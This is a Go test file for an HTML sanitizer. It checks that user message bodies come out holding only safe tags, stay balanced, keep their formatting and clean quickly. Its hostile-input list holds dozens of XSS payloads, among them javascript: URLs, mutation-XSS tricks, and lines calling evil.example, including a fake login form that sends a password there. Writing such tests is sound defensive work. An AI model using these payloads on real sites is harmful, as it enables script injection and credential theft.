package page

import (
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
)

// harmless matches every tag that a cleaned body may have. What is left after it must not be markup.
var harmless = regexp.MustCompile(`</?(?:p|br|hr|div|span|b|strong|i|em|u|s|del|ins|sub|sup|small|code|kbd|pre|` +
	`blockquote|ul|ol|li|dl|dt|dd|h[1-6]|table|caption|thead|tbody|tfoot|tr|th|td)/?>|</a>|` +
	`<a href="(?:https?://|mailto:|tel:)[^"<>]*" rel="nofollow noreferrer(?: noopener)?"(?: target="_blank")?>`)

func assertHarmless(t *testing.T, body string) {
	t.Helper()
	left := harmless.ReplaceAllString(string(clean(body)), "")
	assert.NotContains(t, left, "<", "of %q", body)
	assert.NotContains(t, left, ">", "of %q", body)
}

// hostile bodies try to run a script, to fetch something, to send something, or to leave their place on the page.
var hostile = []string{
	`<script>alert(1)</script>`,
	`<SCRIPT SRC=http://evil.example/x.js></SCRIPT>`,
	`<scr<script>ipt>alert(1)</script>`,
	`<script/x>alert(1)</script >`,
	`<img src=x onerror=alert(1)>`,
	`<img src="http://evil.example/pixel.gif" alt='<script>alert(1)</script>'>`,
	`<image src=x onerror=alert(1)>`,
	`<img srcset="http://evil.example/a 1x, http://evil.example/b 2x">`,
	`<picture><source srcset="http://evil.example/a"><img src=x></picture>`,
	`<p onclick="alert(1)" onmouseover=alert(1) style="background:url(http://evil.example/a)" class=message id=key>x</p>`,
	`<a href="javascript:alert(1)">x</a>`,
	`<a href=" jAvAsCrIpT:alert(1)">x</a>`,
	`<a href="java&#10;script:alert(1)">x</a>`,
	`<a href="java&Tab;script&colon;alert(1)">x</a>`,
	`<a href="&#x6a;avascript:alert(1)">x</a>`,
	"<a href=\"\x01javascript:alert(1)\">x</a>",
	`<a href="vbscript:msgbox(1)">x</a>`,
	`<a href="data:text/html,<script>alert(1)</script>">x</a>`,
	`<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
	`<a href="blob:http://127.0.0.1/x">x</a>`,
	`<a href="file:///etc/passwd">x</a>`,
	`<a href="//evil.example/x">x</a>`,
	`<a href="/forget?all">x</a>`,
	`<a href="export.csv">x</a>`,
	`<a href="http:export.csv">x</a>`,
	`<a href="https://a.example/" onclick=alert(1) target=_self rel=opener ping=http://evil.example/ download>x</a>`,
	`<a href='https://a.example/"onmouseover="alert(1)'>x</a>`,
	`<svg onload=alert(1)>`,
	`<svg><script>alert(1)</script></svg>`,
	`<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x><text>x</text></a></svg>`,
	`<svg><image href="http://evil.example/a.png"/></svg>`,
	`<svg><use href="data:image/svg+xml,<svg id='x' onload='alert(1)'/>#x"></use></svg>`,
	`<math><mi xlink:href="javascript:alert(1)">x</mi></math>`,
	`<meta http-equiv=refresh content="0;url=http://evil.example/">`,
	`<meta http-equiv="Content-Security-Policy" content="default-src *">`,
	`<base href="http://evil.example/">`,
	`<link rel=stylesheet href="http://evil.example/a.css">`,
	`<link rel=dns-prefetch href="//evil.example">`,
	`<style>@import url(http://evil.example/a.css); body{display:none}</style>`,
	`<div style="position:fixed;inset:0;background:url(http://evil.example/a)">x</div>`,
	`<form action="http://evil.example/"><input name=password><button>Log in</button></form>`,
	`<input autofocus onfocus=alert(1)>`,
	`<button formaction="javascript:alert(1)">x</button>`,
	`<isindex action=javascript:alert(1) type=image>`,
	`<iframe src="http://evil.example/"></iframe>`,
	`<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
	`<object data="http://evil.example/a.swf"></object><embed src="http://evil.example/a.swf">`,
	`<applet code=x></applet>`,
	`<video poster="http://evil.example/a" src="http://evil.example/b" onerror=alert(1)></video>`,
	`<audio src=x onerror=alert(1)></audio>`,
	`<body background="http://evil.example/a" onload=alert(1)>`,
	`<html><head><title>x</title></head><body>x</body></html>`,
	`<table background="http://evil.example/a"><tr><td background=http://evil.example/b>x</table>`,
	`<marquee onstart=alert(1)>x</marquee>`,
	`<details open ontoggle=alert(1)>x</details>`,
	`<dialog open>x</dialog>`,
	`<template><script>alert(1)</script></template>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
	`<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>`,
	`<title><img title="</title><img src=x onerror=alert(1)>"></title>`,
	`<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>`,
	`<noembed><p title="</noembed><img src=x onerror=alert(1)>"></noembed>`,
	`<noframes><p title="</noframes><img src=x onerror=alert(1)>"></noframes>`,
	`<plaintext><img src=x onerror=alert(1)>`,
	`<listing>&lt;img src=x onerror=alert(1)&gt;</listing>`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	`<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
	`<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
	`<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>`,
	`<svg><desc><noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=alert(1)>">`,
	`<!--><img src=x onerror=alert(1)>-->`,
	`<!--!><img src=x onerror=alert(1)>--!>`,
	`<![CDATA[<img src=x onerror=alert(1)>]]>`,
	`<?xml version="1.0"?><img src=x onerror=alert(1)>`,
	`<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>&x;`,
	`<!ELEMENT x><script>alert(1)</script>`,
	"<p title=\"`><img src=x onerror=alert(1)>\">",
	"<\x00script>alert(1)</script>",
	"<img\x0bsrc=x\x0conerror=alert(1)>",
	`<<script>alert(1)//<</script>`,
	`<p <script>alert(1)</script>`,
	`<img src=x onerror=alert(1)`,
	`</div></article></main><script>alert(1)</script>`,
	`&lt;script&gt;alert(1)&lt;/script&gt;`,
	`&amp;lt;script&amp;gt;alert(1)`,
	`<p>` + strings.Repeat("<b><i>", 3_000),
	strings.Repeat("<table><tr><td>", 1_000),
}

func TestCleanHostileBodies(t *testing.T) {
	for _, body := range hostile {
		assertHarmless(t, body)
	}
}

func TestCleanKeepsFormatting(t *testing.T) {
	tests := []struct{ name, body, want string }{
		{"text", `Hello`, `Hello`},
		{"entities", `Fish &amp; chips &lt;3`, `Fish &amp; chips &lt;3`},
		{"paragraphs", `<p>One<br>two</p><p><b>three</b></p>`, `<p>One<br/>two</p><p><b>three</b></p>`},
		{"list", `<ul><li>a</li><li>b</li></ul>`, `<ul><li>a</li><li>b</li></ul>`},
		{
			"link", `<a href="https://a.example/?x=1&amp;y=2">see</a>`,
			`<a href="https://a.example/?x=1&amp;y=2" rel="nofollow noreferrer noopener" target="_blank">see</a>`,
		},
		{
			"mail", `<a href="mailto:ada@a.example">ada</a>`,
			`<a href="mailto:ada@a.example" rel="nofollow noreferrer">ada</a>`,
		},
		{"class", `<p class="x" style="color:red">x</p>`, `<p>x</p>`},
		{
			"image", `<p><img src="https://a.example/cat.png" alt="a &quot;cat&quot;"></p>`,
			`<p>[image: a &#34;cat&#34;]</p>`,
		},
		{"image without a name", `<IMG SRC=x alt=" ">`, `[image]`},
		{"left open", `<p><b>bold`, `<p><b>bold</b></p>`},
		{"closed too often", `x</div></div>y`, `xy`},
	}
	for _, test := range tests {
		t.Run(test.name, func(t *testing.T) { assert.Equal(t, test.want, string(clean(test.body))) })
	}
}

// A stray end tag must not end the element that holds the message.
func TestCleanStaysInItsPlace(t *testing.T) {
	for _, body := range append(hostile, `</div></div>x`, `</p>`, `</blockquote></td></tr></table>`, `</li></ol>`) {
		cleaned := string(clean(body))
		open := map[string]int{}
		for _, tag := range regexp.MustCompile(`<(/?)([a-z0-9]+)[^>]*>`).FindAllStringSubmatch(cleaned, -1) {
			if tag[1] == "" {
				open[tag[2]]++
				continue
			}
			open[tag[2]]--
			assert.GreaterOrEqual(t, open[tag[2]], 0, "%q closes what it did not open: %q", body, cleaned)
		}
		delete(open, "br")
		delete(open, "hr")
		for tag, count := range open {
			assert.Zero(t, count, "%q leaves %s open", body, tag)
		}
	}
}

// A body made to be slow costs no more than any other.
func TestCleanIsFast(t *testing.T) {
	for _, part := range []string{
		"<b>", "<a>", "<table>", "<p><b><i>", "<img ", "<!--", "</p>", "&", "<a href=x>", "<li><ul>",
	} {
		body := strings.Repeat(part, longestBody/len(part))
		start := time.Now()
		clean(body)
		assert.Less(t, time.Since(start), 5*time.Second, "%q", part)
	}
}

func TestCleanLongBody(t *testing.T) {
	body := strings.Repeat("<b>x</b>", longestBody/8+1)
	assert.Contains(t, string(clean(body)), "<pre>&lt;b&gt;x&lt;/b&gt;")
}

func FuzzClean(f *testing.F) {
	for _, body := range hostile {
		f.Add(body)
	}
	f.Fuzz(assertHarmless)
}
